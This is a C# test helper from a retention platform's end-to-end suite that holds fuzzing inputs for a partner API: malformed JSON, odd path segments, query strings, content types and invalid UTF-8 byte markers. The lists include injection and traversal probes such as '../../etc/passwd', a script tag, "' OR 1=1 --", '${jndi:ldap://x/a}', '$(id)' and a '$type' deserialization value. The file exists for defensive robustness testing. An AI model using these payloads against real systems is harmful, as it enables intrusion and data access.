using System.Text;

namespace RetentionPlatform.EndToEnd.Tests;

/// <summary>
/// Values that break naive parsers and validators, for fuzzing the partner API: JSON fragments (some deliberately not
/// JSON), path segments, query strings, content types and raw bytes. Text may carry marker characters that
/// <see cref="ToBytes"/> turns into invalid UTF-8, which a .NET string cannot hold.
/// </summary>
internal static class HostileInputs
{
    /// <summary>Becomes the byte 0xFF (never valid in UTF-8).</summary>
    public const char InvalidByte = '\uE000';

    /// <summary>Becomes ED A0 80: a UTF-16 surrogate encoded as if it were a character (CESU-8), invalid in UTF-8.</summary>
    public const char EncodedSurrogate = '\uE001';

    /// <summary>Becomes C0 80: an overlong encoding of NUL.</summary>
    public const char OverlongNul = '\uE002';

    /// <summary>Becomes 0x80: a continuation byte with nothing to continue.</summary>
    public const char StrayContinuation = '\uE003';

    /// <summary>JSON string literals (as JSON text, quotes included) that stress unescaping and validation.</summary>
    public static readonly string[] JsonStrings =
    [
        "\"\"", "\" \"", "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udfff\"", "\"\\udc00\\ud800\"", "\"x\\ud83d\"",
        "\"\\ud83d\\ude00\"", "\"😀\"", "\"\\u202eevil\\u202c\"", "\"\\u200b\"", "\"\\ufeff\"", "\"\\uffff\"", "\"\\u0085\"",
        "\"e\\u0301\"", "\"İı\"", "\"a\\nb\\r\\tc\"", "\"\\\\\"", "\"\\/\"", "\"%00\"", "\"%2F..%2F\"", "\"../../etc/passwd\"",
        "\"a/b\"", "\"<script>alert(1)</script>\"", "\"' OR 1=1 --\"", "\"${jndi:ldap://x/a}\"", "\"{{7*7}}\"", "\"\\\"quoted\\\"\"",
        "\"P99999999999999D\"", "\"PT-1H\"", "\"-P1D\"", "\"P\"", "\"PT0S\"", "\"P1Y2M3DT4H5M6.7S\"", "\"25:61\"", "\"24:00\"", "\"-1:00\"",
        "\"9999-12-31T23:59:59Z\"", "\"9999-12-31T23:59:59-14:00\"", "\"0001-01-01T00:00:00+14:00\"", "\"2026-02-30T10:00:00Z\"",
        "\"2026-01-10T10:00:00\"", "\"1e400\"", "\"NaN\"", "\"-0\"", "\"Mars/Olympus_Mons\"", "\"Etc/GMT+99\"", "\"../UTC\"", "\"xx-XX-u-nu-thai\"",
        "\"email:\"", "\"email:a@b\"", "\"phone:\"", "\":\"", "\"order_placed\\u0000\"", "\"ORDER_PLACED\"", "\"rpk_aaaaaaaa\"",
        "\"" + InvalidByte + "\"", "\"a" + EncodedSurrogate + "b\"", "\"" + OverlongNul + "\"", "\"" + StrayContinuation + "x\"",
        "\"raw\u0001control\"", "\"raw\ttab\"",
    ];

    /// <summary>JSON fragments of every type and edge, some of them not JSON at all (NaN, 0x10, trailing commas).</summary>
    public static readonly string[] JsonValues =
    [
        "null", "true", "false", "0", "-0", "-0.0", "0.0", "1", "-1", "0.5", "1e400", "-1e400", "1e-400", "4.9e-324", "1.7976931348623157e308",
        "123456789012345678901234567890", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "2147483647", "2147483648",
        "-2147483649", "79228162514264337593543950336", "1E+2", "1.0000000000000000000000000001",
        "NaN", "Infinity", "-Infinity", "undefined", "0x10", "01", "+1", ".5", "1.", "--1", "1e", "tru", "nul", "None", "'single'",
        "[]", "{}", "[null]", "[[[]]]", "{\"\":null}", "{\"a\":{\"b\":{\"c\":1}}}", "[1,\"a\",true,null,{}]", "[1,]", "{\"a\":1,}",
        "{\"a\" 1}", "[1 2]", "{\"__proto__\":{\"x\":1}}", "{\"$type\":\"System.IO.FileInfo\"}",
    ];

    /// <summary>Path segments as sent on the wire (already percent-encoded where they mean to be).</summary>
    public static readonly string[] PathSegments =
    [
        "..", ".", "%2E%2E", "%2e", "..%2F..%2Fadmin", "a%2F..%2F..%2Fb", "%2F", "%2F%2F", "a%2Fb%2F", "%00", "a%00b", "%0A", "%0D%0A",
        "%09", "%7F", "%FF", "%C0%80", "%ED%A0%80", "%EF%BF%BF", "%E2%80%AE", "%E2%80%8B", "%F0%9F%98%80", "%20", "%20%20", "%25", "%",
        "%zz", "%2", "%%32%46", "a;b", "a%3Bb", ";", "%3F", "%23", "~", "%5C", "%5C..%5C", "resolve", "export", "members", "batch",
        "con", "$(id)", "%24%7Bjndi%3Aldap%3A%2F%2Fx%7D", "%u0041", "%C3%A9t%C3%A9", "%E4%B8%AD%E6%96%87", "null", "undefined", "-1",
        "0", "a*b", "a%2Ab", "'", "%27%20OR%201%3D1",
    ];

    /// <summary>Query strings for the segment members page (limit, after).</summary>
    public static readonly string[] MemberQueries =
    [
        "", "?", "?limit=1&limit=2", "?limit=99999999999999999999", "?limit=2147483648", "?limit=-1", "?limit=0", "?limit=1001",
        "?limit=1000", "?limit=1e3", "?limit=", "?limit=%00", "?limit=+5", "?limit=%205", "?limit=5%20", "?limit=0x10", "?limit=%D9%A1%D9%A2",
        "?limit=1.5", "?limit=NaN", "?after=", "?after=%00", "?after=%FF", "?after=%ED%A0%80", "?after=a&after=b", "?after=c-3&limit=1",
        "?after=" + new string('z', 129), "?after=" + new string('z', 4000), "?after=%2F%2F%2F", "?after=..%2F..", "?limit=10&limit=",
        "?LIMIT=5", "?limit[]=5", "?limit=5;after=x", "?&&&&", "?=&=&=", "?limit=5#fragment",
    ];

    /// <summary>Query strings for alias resolution.</summary>
    public static readonly string[] AliasQueries =
    [
        "", "?", "?alias=", "?alias=email:", "?alias=:", "?alias=email%3Aann%40example.com", "?alias=email:a@b&alias=phone:1",
        "?alias=phone:%00", "?alias=fax:123", "?alias=email:" + new string('a', 4000) + "@example.com", "?alias=%FF", "?alias=%ED%A0%80",
        "?alias=EMAIL:ANN@EXAMPLE.COM", "?alias=email:%E2%80%AEmoc.elpmaxe@nna", "?alias=external:pos:C-1", "?alias=external:",
        "?alias=phone:+49%20151%201234", "?alias=email:a%0Ab@c.d",
    ];

    /// <summary>Content types a careless client (or an attacker) sends; null sends none.</summary>
    public static readonly string?[] ContentTypes =
    [
        null, "text/plain", "application/xml", "application/json; charset=utf-16", "application/json; charset=latin1", "application/json;;;",
        "application/jsonp", "application/problem+json", "application/merge-patch+json", "multipart/form-data; boundary=x",
        "application/x-www-form-urlencoded", "*/*", "application/json; charset=\"", "APPLICATION/JSON", "application/vnd.api+json",
        "application/grpc", "application/octet-stream", "application", "json", "application/json, text/plain", "application/json; boundary=\u00e9",
    ];

    /// <summary>HTTP methods, standard and not.</summary>
    public static readonly string[] Methods = ["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS", "TRACE", "PROPFIND", "FOO", "get"];

    public static string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();

    /// <summary>Text to bytes as UTF-8, except the marker characters, which become the invalid sequences they name.</summary>
    public static byte[] ToBytes(string text)
    {
        var bytes = new List<byte>(text.Length + 16);
        var start = 0;
        for (var i = 0; i <= text.Length; i++)
        {
            var marker = i < text.Length ? Marker(text[i]) : null;
            if (i < text.Length && marker is null)
            {
                continue;
            }

            bytes.AddRange(Encoding.UTF8.GetBytes(text.AsSpan(start, i - start).ToString()));
            if (marker is not null)
            {
                bytes.AddRange(marker);
            }

            start = i + 1;
        }

        return [.. bytes];
    }

    private static byte[]? Marker(char c) => c switch
    {
        InvalidByte => [0xFF],
        EncodedSurrogate => [0xED, 0xA0, 0x80],
        OverlongNul => [0xC0, 0x80],
        StrayContinuation => [0x80],
        _ => null,
    };
}
